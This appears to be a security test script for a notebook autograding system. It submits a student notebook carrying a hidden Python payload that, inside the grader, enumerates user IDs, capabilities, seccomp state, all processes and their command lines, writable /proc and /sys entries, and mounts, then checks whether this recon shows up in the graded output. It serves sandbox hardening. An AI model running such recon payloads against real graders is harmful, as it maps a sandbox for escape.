"""a01: recon from inside the kernel: ids, caps, processes (sid, autogroup, uid), writable /proc and /sys entries."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from common import *
PAY = r'''
import os, glob, stat
def _r(p):
    try: return open(p).read()
    except Exception as e: return f"ERR {type(e).__name__}: {e}"
print("ids", os.getuid(), os.geteuid(), os.getgid(), os.getpid(), os.getsid(0), os.getpgrp())
print([l for l in _r("/proc/self/status").splitlines() if l.split(":")[0] in ("CapEff","CapBnd","NoNewPrivs","Seccomp","Cpus_allowed_list","Uid")])
print("uid_map", _r("/proc/self/uid_map").strip())
for d in sorted(glob.glob("/proc/[0-9]*"), key=lambda x:int(x.split("/")[-1])):
    st = _r(d+"/stat").split()
    try: ag = _r(d+"/autogroup").strip()
    except Exception as e: ag = str(e)
    print("PROC", d, _r(d+"/cmdline").replace("\0"," ")[:120], "sid", st[5] if len(st)>5 else st, "pgrp", st[4] if len(st)>4 else "", "ag", ag, "uid", [l for l in _r(d+"/status").splitlines() if l.startswith("Uid")])
w = []
for base in ("/proc/self", "/proc/1", "/sys"):
    for root, dirs, files in os.walk(base):
        if root.count("/") > 7: dirs[:] = []; continue
        for f in files:
            p = os.path.join(root, f)
            if os.access(p, os.W_OK): w.append(p)
        if len(w) > 400: break
print("WRITABLE", len(w), w[:400])
print("mounts", _r("/proc/self/mountinfo")[:3000])
'''
if __name__ == "__main__":
    c = make_course("a01")
    hand_in(c, "aaron", honest()); hand_in(c, "mallory", hostile(append={"training_memory": PAY})); hand_in(c, "zoe", honest())
    grade(c); scores(c); leak_scan(c)
    nb = nbformat.read(f"{c}/autograded/mallory/{A}/{A}.ipynb", 4)
    for cell in nb.cells:
        for o in cell.get("outputs", []):
            t = o.get("text") or str(o.get("data", {}).get("text/plain", "")) or str(o.get("evalue",""))
            if t and ("PROC" in t or "ids" in t or "WRITABLE" in t or "Error" in t): print(t[:20000])
